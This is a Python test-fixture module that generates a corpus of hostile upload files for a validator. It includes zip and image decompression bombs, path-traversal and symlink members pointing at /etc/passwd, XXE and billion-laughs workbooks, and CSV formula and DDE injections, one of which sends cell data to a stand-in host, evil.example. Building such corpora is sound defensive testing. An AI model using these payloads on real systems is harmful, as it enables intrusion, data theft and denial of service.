"""A generated corpus of hostile upload files (issue 12, finding 6): built by code on each
run, never committed as binaries. ``corpus()`` returns ``Hostile(id, name, data)`` items:

* archives: bombs by ratio (one member, many members, the whole archive) and by count,
  nested archives, headers that lie (CRC, size, garbled stream), truncated and empty zips,
  path traversal (``..``, absolute, drive letters, backslashes), symbolic links, duplicate
  names, encrypted members, hostile member names, NAT members with NULs / UTF-16 / BOMs;
* text: NAT files with NUL bytes, UTF-16, BOMs, Windows-1252 letters, control characters,
  huge lines, bare CRs, binary noise, zips posing as text;
* workbooks: formulas, external links, XXE and entity expansion, huge dimensions, macros
  (``.xlsm`` and a VBA project inside an ``.xlsx``), missing parts, billion laughs;
* CSV: formula injection (``=``, ``+``, ``-``, ``@``, tab, CR prefixes, DDE), encodings,
  NULs, BOMs, huge lines and fields, unbalanced quotes;
* images (for the logo door): truncated, lying dimensions, decompression bombs, SVG with
  script, other formats under an image name.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from functools import cache
from typing import NamedTuple


class Hostile(NamedTuple):
    id: str
    name: str
    data: bytes


REC = b"0001" + b"X" * 56 + b"\r\n"


def _zip(members, *, method=zipfile.ZIP_DEFLATED, attrs=None, flags=None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            if attrs and name in attrs:
                info.external_attr = attrs[name]
            zf.writestr(info, data)
    out = bytearray(buf.getvalue())
    if flags:  # set general-purpose flag bits in every header (e.g. 0x1 "encrypted")
        for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            i = out.find(sig)
            while i >= 0:
                out[i + at] |= flags
                i = out.find(sig, i + 4)
    return bytes(out)


def _patch_headers(data: bytes, *, crc=None, size=None, csize=None) -> bytes:
    out = bytearray(data)
    for sig, crc_at, csize_at, size_at in (
        (b"PK\x03\x04", 14, 18, 22),
        (b"PK\x01\x02", 16, 20, 24),
    ):
        i = out.find(sig)
        while i >= 0:
            for value, at in ((crc, crc_at), (csize, csize_at), (size, size_at)):
                if value is not None:
                    out[i + at : i + at + 4] = struct.pack("<I", value)
            i = out.find(sig, i + 4)
    return bytes(out)


def _garble(data: bytes, at: int = 4) -> bytes:
    out = bytearray(data)
    start = 30 + struct.unpack("<H", out[26:28])[0]
    out[start + at : start + at + 8] = b"\xff" * 8
    return bytes(out)


def _varied(lines: int, seed: int = 1) -> bytes:
    rnd = random.Random(seed)
    return b"".join(
        f"{rnd.randrange(10**9):010d}BSB{rnd.randrange(10**5):05d}{'':20}{rnd.randrange(100):02d}"
        f"0101202431122024\r\n".encode()
        for _ in range(lines)
    )


def archives() -> list[Hostile]:
    z = []
    mb = 1024**2
    # bombs by ratio: one member, several members under the per-member cap, whole archive
    for n in (1, 2, 8):
        z.append(Hostile(f"bomb-ratio-{n}mb", "set.zip", _zip([("NAT00120.txt", b" " * n * mb)])))
    for count, size in ((100, mb), (40, mb - 1), (20, 900_000), (12, 2 * mb - 1)):
        z.append(
            Hostile(
                f"bomb-many-{count}x{size}",
                "set.zip",
                _zip([(f"NAT{i:05d}.txt", b" " * size) for i in range(count)]),
            )
        )
    # an honest member that hardly compresses: not a bomb, read normally
    z.append(Hostile("incompressible", "set.zip", _zip([("NAT00120.txt", _varied(2_000))])))
    # bombs by count
    for count in (101, 150, 1000):
        z.append(
            Hostile(f"count-{count}", "set.zip", _zip([(f"f{i}.txt", b"x") for i in range(count)]))
        )
    # nested archives
    inner = _zip([("NAT00120.txt", REC)])
    z += [
        Hostile("nested-zip", "set.zip", _zip([("inner.zip", inner)])),
        Hostile("nested-zip-as-txt", "set.zip", _zip([("NAT00120.txt", inner)])),
        Hostile("nested-jar", "set.zip", _zip([("NAT00120.txt", REC), ("x.jar", inner)])),
        Hostile("nested-gz", "set.zip", _zip([("NAT00120.txt", REC), ("x.tar.gz", b"\x1f\x8b")])),
        Hostile("nested-3-deep", "set.zip", _zip([("a.zip", _zip([("b.zip", inner)]))])),
        Hostile("nested-pk-unnamed", "set.zip", _zip([("NAT00120.txt", REC), ("d.bin", inner)])),
    ]
    # lying headers
    good = _zip([("NAT00120.txt", REC * 200)])
    z += [
        Hostile("lie-crc", "set.zip", _patch_headers(good, crc=0xDEADBEEF)),
        Hostile("lie-size-small", "set.zip", _patch_headers(good, size=10)),
        Hostile("lie-size-zero", "set.zip", _patch_headers(good, size=0)),
        Hostile("lie-size-huge", "set.zip", _patch_headers(good, size=0xFFFFFFF0)),
        Hostile("lie-csize", "set.zip", _patch_headers(good, csize=3)),
        Hostile("lie-garbled-stream", "set.zip", _garble(good)),
        Hostile("truncated-half", "set.zip", good[: len(good) // 2]),
        Hostile("truncated-no-eocd", "set.zip", good[:-22]),
        Hostile("empty-zip", "set.zip", _zip([])),
        Hostile("only-dirs", "set.zip", _zip([("dir/", b"")])),
        Hostile("not-a-zip", "set.zip", b"this is not a zip at all\r\n"),
        Hostile("pk-prefix-only", "set.zip", b"PK\x03\x04" + b"\x00" * 40),
        Hostile("zip-named-txt", "NAT00120.txt", good),
        Hostile("zip-named-csv", "template.csv", good),
    ]
    # traversal, links, names
    for i, name in enumerate(
        [
            "../NAT00120.txt",
            "../../etc/NAT00120.txt",
            "/abs/NAT00120.txt",
            "C:/NAT00120.txt",
            "C:\\x\\NAT00120.txt",
            "..\\..\\NAT00120.txt",
            "a/../../NAT00120.txt",
            "\\\\server\\share\\NAT00120.txt",
        ]
    ):
        z.append(Hostile(f"traversal-{i}", "set.zip", _zip([(name, REC)])))
    link = 0o120777 << 16
    z += [
        Hostile(
            "symlink",
            "set.zip",
            _zip([("NAT00120.txt", b"/etc/passwd")], attrs={"NAT00120.txt": link}),
        ),
        Hostile(
            "symlink-beside",
            "set.zip",
            _zip([("NAT00120.txt", REC), ("NAT00080.txt", b"../x")], attrs={"NAT00080.txt": link}),
        ),
        Hostile("duplicate-names", "set.zip", _zip([("NAT00120.txt", REC), ("NAT00120.txt", REC)])),
        Hostile("duplicate-case", "set.zip", _zip([("NAT00120.txt", REC), ("nat00120.TXT", REC)])),
        Hostile(
            "duplicate-suffix", "set.zip", _zip([("NAT00120.txt", REC), ("NAT00120_2.txt", REC)])
        ),
        Hostile("encrypted-flag", "set.zip", _zip([("NAT00120.txt", REC)], flags=0x1)),
        Hostile("macosx-only", "set.zip", _zip([("__MACOSX/._NAT00120.txt", b"\x00\x05")])),
        Hostile("unicode-name", "set.zip", _zip([("NAT00120\u202e.txt", REC)])),
        Hostile("long-name", "set.zip", _zip([("a" * 400 + "/NAT00120.txt", REC)])),
        Hostile("no-nat-files", "set.zip", _zip([("readme.txt", b"hello")])),
        Hostile(
            "stored-method", "set.zip", _zip([("NAT00120.txt", REC)], method=zipfile.ZIP_STORED)
        ),
        Hostile("bzip2-method", "set.zip", _zip([("NAT00120.txt", REC)], method=zipfile.ZIP_BZIP2)),
        Hostile("lzma-method", "set.zip", _zip([("NAT00120.txt", REC)], method=zipfile.ZIP_LZMA)),
    ]
    # hostile member contents
    for hid, body in text_bodies():
        z.append(Hostile(f"member-{hid}", "set.zip", _zip([("NAT00120.txt", body)])))
    return z


def text_bodies() -> list[tuple[str, bytes]]:
    """NAT text bodies that are hostile in their bytes."""
    line = REC[:-2]
    out = []
    for at in (0, 1, 5, 30, 59):  # NUL at various columns of line 1 and line 3
        out.append((f"nul-col{at}", line[:at] + b"\x00" + line[at + 1 :] + b"\r\n"))
        out.append((f"nul-line3-col{at}", REC * 2 + line[:at] + b"\x00" + line[at + 1 :] + b"\r\n"))
    out += [
        ("nul-only", b"\x00" * 64),
        ("nul-at-end", REC * 3 + b"\x00"),
        ("nul-after-1mb", _varied(20_000)[: 1 << 20] + b"\x00\r\n"),
        ("utf16-le", "\ufeff0001 hello\r\n".encode("utf-16-le")),
        ("utf16-be", "\ufeff0001 hello\r\n".encode("utf-16-be")),
        ("utf16-no-bom", "0001 hello world\r\n".encode("utf-16-le")),
        ("utf8-bom", b"\xef\xbb\xbf" + REC),
        ("utf8-letters", "0001 Zoë Ñúñez\r\n".encode()),
        ("cp1252-letters", "0001 Zoë Ñúñez\r\n".encode("cp1252")),
        ("utf32", "0001 hi\r\n".encode("utf-32")),
        ("huge-line", b"X" * (3 << 20)),
        ("huge-line-then-rec", b"X" * (2 << 20) + b"\r\n" + REC),
        ("bare-cr", REC.replace(b"\r\n", b"\r") * 5),
        ("lf-only", REC.replace(b"\r\n", b"\n") * 5),
        ("empty", b""),
        ("only-newlines", b"\r\n" * 1000),
        ("binary-noise", random.Random(7).randbytes(4096)),
        ("ansi-escapes", b"\x1b[2J\x1b[31m0001\x07\x08\x7f" + REC),
        ("bidi-controls", "0001\u202egnp.exe\u202c\r\n".encode()),
        ("form-feed-vt", b"0001\x0c\x0b" + REC),
        ("html-script", b"<script>alert(1)</script>" + REC),
        ("csv-formula-in-nat", b'=HYPERLINK("http://x")' + REC),
    ]
    return out


def texts() -> list[Hostile]:
    """Loose NAT text files (the register's loose-file door and the claim door)."""
    return [Hostile(f"txt-{hid}", "NAT00120.txt", body) for hid, body in text_bodies()] + [
        Hostile("txt-zip-inside", "NAT00120.txt", _zip([("NAT00120.txt", REC)])),
        Hostile("txt-bad-name", "NAT99999.txt", REC),
        Hostile("txt-traversal-name", "../../NAT00120.txt", REC),
        Hostile("txt-nul-name", "NAT00120\x00.txt", REC),
        Hostile("exe-named", "NAT00120.exe", b"MZ\x90\x00" + b"\x00" * 60),
    ]


INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "'=1+1",
    "＝1+1",  # full-width equals
    "%0A=1+1",
]


def csvs() -> list[Hostile]:
    header = "client_identifier,family_name,given_names,subject_identifier,outcome\r\n"
    out = []
    for i, inj in enumerate(INJECTIONS):
        row = f'"{inj}","{inj}",Kate,BSBWHS311,20\r\n'
        out.append(Hostile(f"csv-injection-{i}", "template.csv", (header + row).encode()))
        out.append(
            Hostile(
                f"csv-injection-bom-{i}", "template.csv", b"\xef\xbb\xbf" + (header + row).encode()
            )
        )
    body = (header + "C1,Smith,Kate,BSBWHS311,20\r\n").encode()
    out += [
        Hostile("csv-cp1252", "template.csv", (header + "C1,Núñez,Zoë,X,20\r\n").encode("cp1252")),
        Hostile("csv-utf16", "template.csv", (header + "C1,Smith,K,X,20\r\n").encode("utf-16")),
        Hostile("csv-nul", "template.csv", body.replace(b"Smith", b"Sm\x00th")),
        Hostile("csv-nul-header", "template.csv", b"\x00" + body),
        Hostile("csv-bom-only", "template.csv", b"\xef\xbb\xbf"),
        Hostile("csv-empty", "template.csv", b""),
        Hostile("csv-header-only", "template.csv", header.encode()),
        Hostile("csv-huge-line", "template.csv", header.encode() + b"A" * (3 << 20) + b"\r\n"),
        Hostile(
            "csv-huge-field", "template.csv", header.encode() + b'"' + b"x" * (2 << 20) + b'",a\r\n'
        ),
        Hostile("csv-unbalanced-quote", "template.csv", header.encode() + b'"C1,Smith,K,X,20\r\n'),
        Hostile("csv-many-columns", "template.csv", (",".join(["c"] * 20_000) + "\r\n").encode()),
        Hostile("csv-truncated-utf8", "template.csv", body + "é".encode()[:1]),
        Hostile("csv-control-chars", "template.csv", body.replace(b"Smith", b"S\x1b[2Jm\x07th")),
        Hostile("csv-is-zip", "template.csv", _zip([("a.csv", body)])),
        Hostile(
            "csv-html", "template.csv", header.encode() + b"<script>alert(1)</script>,a,b,c,d\r\n"
        ),
        Hostile("csv-lone-cr", "template.csv", body.replace(b"\r\n", b"\r")),
    ]
    return out


# ---------------------------------------------------------------------------- workbooks
_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xm'
    'l"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocume'
    'nt.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-off'
    'icedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationsh'
    'ips/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WB = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/sprea'
    'dsheetml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationsh'
    'ips/worksheet" Target="worksheets/sheet1.xml"/>'
    "{extra}</Relationships>"
)


def _sheet(cells: str, *, dimension: str = "A1:B2", prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{cells}</sheetData></worksheet>'
    )


def _row(*values: str, r: int = 1) -> str:
    cols = "ABCDEFGHIJ"
    return (
        f'<row r="{r}">'
        + "".join(
            f'<c r="{cols[i]}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
            for i, v in enumerate(values)
        )
        + "</row>"
    )


def _xlsx(
    sheet: str, *, extra: dict[str, str | bytes] | None = None, rels_extra="", wb=_WB
) -> bytes:
    parts = {
        "[Content_Types].xml": _CT,
        "_rels/.rels": _RELS,
        "xl/workbook.xml": wb,
        "xl/_rels/workbook.xml.rels": _WB_RELS.format(extra=rels_extra),
        "xl/worksheets/sheet1.xml": sheet,
        **(extra or {}),
    }
    return _zip([(k, v.encode() if isinstance(v, str) else v) for k, v in parts.items()])


def workbooks() -> list[Hostile]:
    header = _row("postcode", "locality", "state")
    ok_row = _row("4000", "BRISBANE CITY", "QLD", r=2)
    xxe = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    laughs = (
        '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    )
    formula = '<row r="2"><c r="A2"><f>1+1</f><v>2</v></c></row>'
    ns_formula = '<row r="2"><c r="A2"><x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">SUM(1)</x:f></c></row>'
    ext = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
    )
    ext_part = (
        '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main">'
        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships'
        '" r:id="rId1"/>'
        "</externalLink>"
    )
    out = [
        Hostile("xlsx-formula", "template.xlsx", _xlsx(_sheet(header + formula))),
        Hostile("xlsx-formula-ns", "template.xlsx", _xlsx(_sheet(header + ns_formula))),
        Hostile(
            "xlsx-shared-formula",
            "template.xlsx",
            _xlsx(_sheet(header + formula.replace("<f>", '<f t="shared" si="0">'))),
        ),
        Hostile(
            "xlsx-external-link",
            "template.xlsx",
            _xlsx(
                _sheet(header + ok_row),
                rels_extra=ext,
                extra={"xl/externalLinks/externalLink1.xml": ext_part},
            ),
        ),
        Hostile(
            "xlsx-xxe-sheet",
            "template.xlsx",
            _xlsx(_sheet(header + _row("&xxe;", r=2), prolog=xxe)),
        ),
        Hostile(
            "xlsx-xxe-workbook",
            "template.xlsx",
            _xlsx(_sheet(header), wb=_WB.replace("?>", "?>" + xxe, 1)),
        ),
        Hostile(
            "xlsx-laughs-sheet",
            "template.xlsx",
            _xlsx(_sheet(header + _row("&d;", r=2), prolog=laughs)),
        ),
        Hostile(
            "xlsx-laughs-workbook",
            "template.xlsx",
            _xlsx(_sheet(header), wb=_WB.replace("?>", "?>" + laughs, 1)),
        ),
        Hostile(
            "xlsx-huge-dimension",
            "template.xlsx",
            _xlsx(_sheet(header + ok_row, dimension="A1:XFD1048576")),
        ),
        Hostile(
            "xlsx-huge-row-number",
            "template.xlsx",
            _xlsx(_sheet(header + _row("1", "x", "QLD", r=1048576))),
        ),
        Hostile(
            "xlsx-huge-column",
            "template.xlsx",
            _xlsx(_sheet('<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>')),
        ),
        Hostile(
            "xlsx-macro-vba",
            "template.xlsx",
            _xlsx(
                _sheet(header + ok_row),
                extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512},
            ),
        ),
        Hostile(
            "xlsm-named",
            "template.xlsm",
            _xlsx(_sheet(header + ok_row), extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        ),
        Hostile("xlsx-no-workbook", "template.xlsx", _zip([("[Content_Types].xml", _CT.encode())])),
        Hostile("xlsx-no-rels", "template.xlsx", _zip([("xl/workbook.xml", _WB.encode())])),
        Hostile("xlsx-broken-xml", "template.xlsx", _xlsx("<worksheet><sheetData><row>")),
        Hostile("xlsx-not-zip", "template.xlsx", b"<html>not a workbook</html>"),
        Hostile("xlsx-is-csv", "template.xlsx", b"a,b,c\r\n1,2,3\r\n"),
        Hostile(
            "xlsx-bomb",
            "template.xlsx",
            _xlsx(_sheet(header + "<row r='2'>" + " " * (8 << 20) + "</row>")),
        ),
        Hostile(
            "xlsx-lie-crc", "template.xlsx", _patch_headers(_xlsx(_sheet(header + ok_row)), crc=1)
        ),
        Hostile(
            "xlsx-nested-zip",
            "template.xlsx",
            _xlsx(_sheet(header + ok_row), extra={"xl/embeddings/x.zip": _zip([("a", b"b")])}),
        ),
        Hostile(
            "xlsx-traversal",
            "template.xlsx",
            _xlsx(_sheet(header + ok_row), extra={"../../evil.xml": "<x/>"}),
        ),
        Hostile(
            "xlsx-sheet-target-outside",
            "template.xlsx",
            _xlsx(_sheet(header), rels_extra="").replace(
                b'worksheets/sheet1.xml"/>', b'../../../etc/passwd"/>', 1
            ),
        ),
        Hostile(
            "xlsx-injection-cells",
            "template.xlsx",
            _xlsx(_sheet(header + _row("=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", r=2))),
        ),
        Hostile(
            "xlsx-nul-in-cell",
            "template.xlsx",
            _xlsx(_sheet(header + _row("40&#0;00", "X", "QLD", r=2))),
        ),
        Hostile(
            "xlsx-control-in-cell",
            "template.xlsx",
            _xlsx(_sheet(header + _row("\x1b[2J", "\x07", "QLD", r=2))),
        ),
        Hostile(
            "xlsx-utf16-xml",
            "template.xlsx",
            _xlsx(_sheet(header + ok_row).encode("utf-16").decode("latin-1")),
        ),
        Hostile(
            "xlsx-many-rows",
            "template.xlsx",
            _xlsx(
                _sheet(
                    header + "".join(_row(str(4000 + i), "X", "QLD", r=i + 2) for i in range(3000))
                )
            ),
        ),
    ]
    return out


# ---------------------------------------------------------------------------- images
def _png(width: int, height: int, raw: bytes | None = None, *, crc_ok: bool = True) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) if crc_ok else 0
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    raw = raw if raw is not None else b"\x00" * min((width * 3 + 1) * min(height, 4), 1 << 16)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def images() -> list[Hostile]:
    small = _png(4, 4, b"\x00" + b"\xff" * 12 + (b"\x00" + b"\x80" * 12) * 3)
    return [
        Hostile("png-ok-control", "logo.png", small),
        Hostile("png-huge-dimensions", "logo.png", _png(100_000, 100_000)),
        Hostile("png-wide", "logo.png", _png(2**31 - 1, 1)),
        Hostile("png-zero", "logo.png", _png(0, 0)),
        Hostile(
            "png-decompression-bomb", "logo.png", _png(20_000, 20_000, b"\x00" * (60_001 * 200))
        ),
        Hostile("png-bad-crc", "logo.png", _png(4, 4, crc_ok=False)),
        Hostile("png-truncated", "logo.png", small[:30]),
        Hostile("png-header-only", "logo.png", b"\x89PNG\r\n\x1a\n"),
        Hostile("jpeg-truncated", "logo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
        Hostile(
            "svg-script",
            "logo.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        ),
        Hostile(
            "svg-as-png", "logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
        ),
        Hostile("gif-as-png", "logo.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
        Hostile("html-as-png", "logo.png", b"<html><script>alert(1)</script></html>"),
        Hostile("zip-as-png", "logo.png", _zip([("a.png", small)])),
        Hostile("polyglot-png-zip", "logo.png", small + _zip([("x.js", b"alert(1)")])),
        Hostile("tiff-as-png", "logo.png", b"II*\x00" + b"\x00" * 100),
        Hostile("png-too-big-bytes", "logo.png", small + b"\x00" * (3 << 20)),
        Hostile("empty-png", "logo.png", b""),
    ]


@cache
def corpus() -> tuple[Hostile, ...]:
    """Every hostile file (ids unique)."""
    items = archives() + texts() + csvs() + workbooks() + images()
    ids = [h.id for h in items]
    assert len(ids) == len(set(ids)), "duplicate corpus ids"
    return tuple(items)
